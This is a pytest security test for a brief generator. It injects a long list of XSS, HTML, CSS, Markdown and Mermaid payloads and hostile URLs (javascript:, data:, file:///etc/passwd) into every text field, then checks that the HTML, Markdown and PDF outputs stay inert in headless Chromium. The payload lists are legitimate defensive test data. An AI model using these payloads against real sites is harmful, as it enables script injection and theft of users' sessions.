"""Hostile text in every field of a brief is shown as text and never runs, loads or navigates.

The seed brief is rewritten: every text and Markdown field (everything but
ids, references, dates, closed vocabularies, languages, numbers and
`local_path`) gets HTML, script, style and link payloads appended, and its
sources get `javascript:`, `data:` and other hostile URLs. Quotes and
excerpts are rewritten too, and the rewritten ones are added to the stored
article so that the verbatim check still passes. The brief is built to all
three formats.

The HTML is then opened in real headless Chromium (the machine's own,
through Playwright) while a loopback listener records any request. Nothing
may open a dialog, run a script (the payloads set `window.pwned` and
`document.title`), request anything but the file itself, or add an element
or attribute that the clean seed brief does not have. This is checked twice:
as shipped, under the page's Content-Security-Policy, and again with the
policy bypassed, so that the escaping is shown to hold by itself. The
Markdown must hold no raw HTML tag that GitHub would interpret and no
`javascript:` link; the PDF no script or launch action.

Locally a missing Chromium or Playwright skips the browser test; with `CI`
set it fails, as in `test_html_checks.py`.
"""

from __future__ import annotations

import re
import shutil
import types
from collections.abc import Iterator
from pathlib import Path
from typing import Annotated, Any, Union, get_args, get_origin

import pytest
import yaml
from browser import chromium
from conftest import SEED, SEED_SOURCE
from hostile import Listener, listening
from pydantic import BaseModel
from pydantic.functional_validators import BeforeValidator

from briefgen.build import build
from briefgen.model import Brief
from briefgen.model import values as model_values

# Its module fixtures build once: every test here runs in the same xdist worker.
pytestmark = pytest.mark.xdist_group("test_injection")

SEED_ID = "idlib-talks-2020-02-20"
MARKER = "INJECTED"


def payloads(port_url: str) -> list[str]:
    """Everything a hostile analyst, or a hostile source quoted by one, might type."""
    run = "window.pwned=1;document.title='pwned';alert(1)"
    return [
        f"<script>{run}</script>",
        f"<SCRIPT SRC={port_url}/x.js></SCRIPT>",
        f'<img src=x onerror="{run}">',
        f"<svg onload={run}>",
        f"<svg><script>{run}</script></svg>",
        f'<body onload="{run}">',
        f'<div onmouseover="{run}" style="position:fixed;inset:0">hover</div>',
        f'<details open ontoggle="{run}">',
        f'<a href="javascript:{run}">js link</a>',
        f'<a href="data:text/html,<script>{run}</script>">data link</a>',
        f'<iframe src="{port_url}/frame"></iframe>',
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f'<object data="{port_url}/object"></object><embed src="{port_url}/embed">',
        f"<style>@import url({port_url}/import.css);</style>",
        f"<style>body{{background:url({port_url}/style-bg.png)}}</style>",
        f"body {{ background: url({port_url}/css-url.png) }}",
        f'<link rel=stylesheet href="{port_url}/link.css">',
        f'<meta http-equiv="refresh" content="0;url={port_url}/refresh">',
        f'<base href="{port_url}/">',
        f'<form action="{port_url}/form"><input autofocus onfocus="{run}"></form>',
        f'<video><source onerror="{run}"></video>',
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\">",
        f'"><script>{run}</script>',
        f"'><img src=x onerror={run}>",
        f"</title><script>{run}</script>",
        f"</style><script>{run}</script>",
        f"</textarea></noscript><script>{run}</script>",
        "<!-- unclosed comment",
        "<![CDATA[ ]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#106;avascript:alert(1) &#x6A;avascript:alert(1) &amp;lt;b&amp;gt;",
        f"[js](javascript:{run})",
        "[upper](JaVaScRiPt:alert(1))",
        "[entity](&#106;avascript:alert(1))",
        "[angle](<javascript:alert(1)>)",
        "[vb](vbscript:msgbox(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[file](file:///etc/passwd)",
        f"![pixel]({port_url}/pixel.png)",
        f"![js image](javascript:{run})",
        "<javascript:alert(1)>",
        f"<{port_url}/autolink>",
        f"[ref link][evil]\n\n[evil]: javascript:{run}",
        "`<script>in code</script>`",
        f"```html\n<script>{run}</script>\n```",
        '"]; click p1 call alert(1); %%{init: {"securityLevel": "loose"}}%%',
        "{{ 7 * 7 }} {% raw %} ${alert(1)}",
        "\u202e\u2066 bidi overrides \u2069",
    ]


def hostile_urls(port_url: str) -> list[str]:
    run = "window.pwned=1;alert(1)"
    return [
        f"javascript:{run}",
        f"JaVaScRiPt:{run}",
        f"  javascript:{run}",
        f"java\tscript:{run}",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        f"{port_url}/source-url",
        f'https://example.org/"><script>{run}</script>',
        f"https://example.org/ onmouseover={run} x=",
        f"https://example.org/>\n<script>{run}</script>",
        f"https://example.org/)](javascript:{run})",
    ]


# --- Which fields are free text ---------------------------------------------------

def _field_kind(annotation: Any, metadata: tuple[Any, ...] = ()) -> Any:
    """A model class, "text", or None for ids, refs, dates, languages, choices and numbers."""
    origin = get_origin(annotation)
    if origin is Annotated:
        return _field_kind(get_args(annotation)[0], (*metadata, *annotation.__metadata__))
    if origin in (Union, types.UnionType):
        inner = [a for a in get_args(annotation) if a is not type(None)]
        return _field_kind(inner[0], metadata)
    if origin is list:
        return _field_kind(get_args(annotation)[0], metadata)
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return annotation
    if any(isinstance(m, model_values.RefTo) for m in metadata):
        return None
    funcs = {m.func for m in metadata if isinstance(m, BeforeValidator)}
    return "text" if funcs & {model_values.as_text, model_values.as_required_text} else None


def _kinds(model: type[BaseModel]) -> dict[str, Any]:
    return {(f.alias or name): _field_kind(Annotated[(f.annotation, *f.metadata)]
                                           if f.metadata else f.annotation)
            for name, f in model.model_fields.items()}


NOT_REWRITTEN = {"local_path", "url"}  # a path the brief needs, and URLs, set apart below


def rewrite(data: Any, model: type[BaseModel], change: Any, where: str = "") -> int:
    """Rewrite, in place, every free-text string of `data`; return how many were rewritten."""
    count = 0
    kinds = _kinds(model)
    for key, value in data.items():
        kind = kinds.get(key)
        if kind is None or key in NOT_REWRITTEN:
            continue
        items = value if isinstance(value, list) else None
        if isinstance(kind, type):
            for item in items if items is not None else [value]:
                if isinstance(item, dict):
                    count += rewrite(item, kind, change, f"{where}{key}.")
        elif items is not None:
            for i, item in enumerate(items):
                if isinstance(item, str):
                    items[i] = change(f"{where}{key}", item)
                    count += 1
        elif isinstance(value, str):
            data[key] = change(f"{where}{key}", value)
            count += 1
    return count


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as server:
        yield server


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> dict[str, Any]:
    """The seed brief with every text field poisoned, built to all three formats."""
    project = tmp_path_factory.mktemp("injected")
    seeds = project / "seeds"
    seeds.mkdir()
    data = yaml.safe_load(SEED.read_text(encoding="utf-8"))
    poison = payloads(listener.url)
    verbatim: list[str] = []
    seen: list[str] = []

    def change(path: str, text: str) -> str:
        # Two payloads a field, in turn, so that each lands in several fields of
        # several kinds; all of them in every field would make a 400-page PDF.
        n = len(seen)
        seen.append(path)
        new = f"{text} {MARKER} {poison[n % len(poison)]}\n\n{poison[(7 * n + 3) % len(poison)]}"
        if path in ("quotes.text", "key_figures.excerpt", "timeline.excerpt"):
            verbatim.append(new)
        return new

    count = rewrite(data, Brief, change)
    urls = hostile_urls(listener.url)
    data["sources"][0]["url"] = urls[0]
    data["sources"] += [{"id": f"src-hostile-url-{i}", "title": f"Hostile URL {i}", "url": url}
                        for i, url in enumerate(urls[1:], start=1)]
    article = SEED_SOURCE.read_text(encoding="utf-8")
    (seeds / SEED_SOURCE.name).write_text(article + "\n\n" + "\n\n".join(verbatim) + "\n",
                                          encoding="utf-8")
    brief = seeds / SEED.name
    brief.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=100),
                     encoding="utf-8")
    clean = project / "clean" / "seeds"
    clean.mkdir(parents=True)
    shutil.copy(SEED, clean)
    shutil.copy(SEED_SOURCE, clean)
    out = project / "out"
    report = build([brief], out)
    assert report.ok, report.results
    clean_report = build([clean / SEED.name], project / "clean-out", ("html",))
    assert clean_report.ok, clean_report.results
    hits_during_build = list(listener.hits)
    return {"out": out, "count": count, "fields": set(seen), "urls": urls,
            "clean_html": project / "clean-out" / f"{SEED_ID}.html",
            "hits_during_build": hits_during_build}


def test_every_text_field_was_poisoned(built: dict[str, Any]) -> None:
    """The rewrite reached the fields that matter, so the checks below mean something."""
    assert built["count"] > 150
    for field in ("meta.title", "meta.subtitle", "meta.authors.name", "meta.tags",
                  "meta.sourcing_note", "meta.disclaimer", "summary.bluf",
                  "summary.points.text", "summary.points.basis", "key_figures.display",
                  "key_figures.excerpt", "parties.name", "parties.aliases", "people.name",
                  "relations.note", "positions.topic", "quotes.text", "risks.title",
                  "risks.indicators", "humanitarian.needs.sector", "timeline.event",
                  "recommendations.pros", "open_questions.question", "sources.title"):
        assert field in built["fields"], field
    assert built["hits_during_build"] == [], "the build made a request"


def _markdown_tokens(text: str) -> Iterator[Any]:
    """Every token GitHub's CommonMark parser would make of `text`, raw HTML allowed."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda _url: True  # see every link, not only those markdown-it likes
    for token in md.parse(text):
        yield token
        yield from token.children or []


DANGEROUS_TAG = re.compile(r"<\s*/?\s*(script|img|iframe|frame|svg|style|link|meta|object|embed|"
                           r"base|form|input|body|math|video|audio|source|details|textarea|"
                           r"noscript|title)\b", re.IGNORECASE)
SAFE_SCHEMES = ("http:", "https:", "mailto:", "#")
MERMAID_LINES = (r"flowchart LR", r'  p\d+\["[^"<>]*"\]',
                 r'  p\d+ (==>|-->|---|===|-\.-)\|"[^"<>]*"\| p\d+',
                 r"  linkStyle \d+ stroke:#[0-9a-fA-F]{3,8}")


def test_markdown_holds_no_live_html_and_no_script_link(built: dict[str, Any]) -> None:
    text = (built["out"] / f"{SEED_ID}.md").read_text(encoding="utf-8")
    assert MARKER in text
    assert text.count("\\<script\\>") > 20, "the payloads were lost instead of escaped"
    for token in _markdown_tokens(text):
        if token.type in ("html_inline", "html_block"):
            assert not DANGEROUS_TAG.search(token.content), token.content[:200]
            assert not re.search(r"\son\w+\s*=", token.content, re.IGNORECASE), token.content
        for name in ("href", "src"):
            url = str(token.attrGet(name) or "")
            if url:
                assert url.lower().lstrip().startswith(SAFE_SCHEMES), (token.type, url)
    mermaid = re.findall(r"```mermaid\n(.*?)```", text, re.DOTALL)
    assert mermaid, "no relations diagram"
    for line in mermaid[0].splitlines():  # every label stays a label: no quote or '<' escapes
        assert any(re.fullmatch(pattern, line) for pattern in MERMAID_LINES), line[:300]


def test_pdf_holds_no_script_or_launch_action(built: dict[str, Any]) -> None:
    from pypdf import PdfReader

    reader = PdfReader(built["out"] / f"{SEED_ID}.pdf")
    assert MARKER in "".join(page.extract_text() for page in reader.pages[:3])
    uris: list[str] = []
    for number in range(1, int(reader.trailer["/Size"])):
        obj = reader.get_object(number)
        if not hasattr(obj, "keys"):
            continue
        assert not {"/JS", "/JavaScript", "/Launch", "/SubmitForm", "/OpenAction",
                    "/AA"} & set(obj.keys()), obj
        action = obj.get("/A")
        if action is not None:
            action = action.get_object()
            assert action.get("/S") in ("/URI", "/GoTo", None), action
            if action.get("/S") == "/URI":
                uris.append(str(action["/URI"]))
    assert uris, "no link at all in the PDF"
    for uri in uris:
        assert uri.lower().startswith(("http:", "https:", "mailto:")), uri


# --- In the browser -----------------------------------------------------------------

@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """The machine's headless Chromium, driven by Playwright; never a downloaded browser."""
    with chromium() as launched:
        yield launched


DOM_SHAPE = """() => {
  const tags = new Set(), attributes = new Set(), links = [], sources = [];
  for (const el of document.querySelectorAll('*')) {
    tags.add(el.localName);
    for (const attr of el.attributes) attributes.add(attr.name.toLowerCase());
    if (el.localName === 'a' && el.hasAttribute('href')) links.push(el.href);
    for (const name of ['src', 'srcset', 'data', 'action', 'formaction', 'poster', 'background'])
      if (el.hasAttribute(name)) sources.push(name + '=' + el.getAttribute(name).slice(0, 40));
  }
  return {tags: [...tags], attributes: [...attributes], links, sources,
          title: document.title, pwned: typeof window.pwned,
          text: document.body.innerText, csp: [...document.querySelectorAll(
            'meta[http-equiv="Content-Security-Policy"]')].map(m => m.content)};
}"""

# What the Markdown fields may add to the clean seed's page: paragraphs, emphasis,
# code, lists, quotes, rules and links (no images here: none is inside the project).
# What Markdown makes, and the break opportunities briefgen puts in long tokens (payloads are
# long): none of them can run or load anything.
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr",
                 "br", "wbr"}


def _open(browser: Any, path: Path, listener: Listener, *, bypass_csp: bool) -> dict[str, Any]:
    context = browser.new_context(bypass_csp=bypass_csp, java_script_enabled=True)
    requests: list[str] = []
    dialogs: list[str] = []
    try:
        page = context.new_page()
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: requests.append(f"popup {popup.url}"))
        url = path.resolve().as_uri()
        page.goto(url, wait_until="load")
        page.mouse.move(200, 200)  # give any hover handler a chance
        page.keyboard.press("Tab")  # and any focus handler
        page.wait_for_timeout(700)  # a zero-second refresh, a late onerror
        shape = page.evaluate(DOM_SHAPE)
        shape["final_url"] = page.url
    finally:
        context.close()
    shape.update(requests=requests, dialogs=dialogs, url=url, hits=list(listener.hits))
    return shape


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "csp-bypassed"])
def test_poisoned_html_runs_nothing_and_loads_nothing(built: dict[str, Any], browser: Any,
                                                      listener: Listener,
                                                      bypass_csp: bool) -> None:
    page = _open(browser, built["out"] / f"{SEED_ID}.html", listener, bypass_csp=bypass_csp)
    clean = _open(browser, built["clean_html"], listener, bypass_csp=bypass_csp)
    assert page["dialogs"] == [], "a dialog opened"
    assert page["pwned"] == "undefined", "an injected script ran"
    assert page["title"] != "pwned" and MARKER in page["title"]
    assert page["final_url"] == page["url"], "the page navigated away"
    outside = [url for url in page["requests"] if url != page["url"]
               and not url.startswith("data:")]
    assert outside == [], f"requests left the page: {outside}"
    assert page["hits"] == [], f"the listener was reached: {page['hits']}"
    new_tags = set(page["tags"]) - set(clean["tags"]) - MARKDOWN_TAGS
    assert new_tags == set(), f"injected elements: {new_tags}"
    new_attributes = set(page["attributes"]) - set(clean["attributes"]) - {"href"}
    assert new_attributes == set(), f"injected attributes: {new_attributes}"
    assert not any(name.startswith("on") for name in page["attributes"])
    assert all(source.startswith(("src=data:", "srcset=data:")) for source in page["sources"]), \
        page["sources"]
    for link in page["links"]:
        assert link.lower().startswith(("http:", "https:", "mailto:", page["url"] + "#")), link
    # nothing is lost: the payloads are on the page, as text
    assert "<script>window.pwned=1" in page["text"]
    assert "<img src=x onerror=" in page["text"]
    assert "&lt;script&gt;" in page["text"]


def test_html_forbids_scripts_and_outside_loads_by_policy(built: dict[str, Any]) -> None:
    """The Content-Security-Policy is the second wall, should the escaping ever fail."""
    html = (built["out"] / f"{SEED_ID}.html").read_text(encoding="utf-8")
    policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html)
    assert len(policies) == 1, policies
    directives = {part.split()[0]: part.split()[1:] for part in policies[0].split(";")
                  if part.strip()}
    assert directives.get("default-src") == ["'none'"], directives
    for name in ("script-src", "script-src-elem", "script-src-attr", "connect-src", "frame-src",
                 "object-src", "child-src", "worker-src", "manifest-src", "media-src"):
        assert name not in directives or directives[name] == ["'none'"], (name, directives)
    for name, values in directives.items():
        for value in values:  # no host, no scheme but data:, not even the file's own folder
            assert value in ("'none'", "'unsafe-inline'", "data:"), (name, value)
    assert html.index("Content-Security-Policy") < html.index("<style")
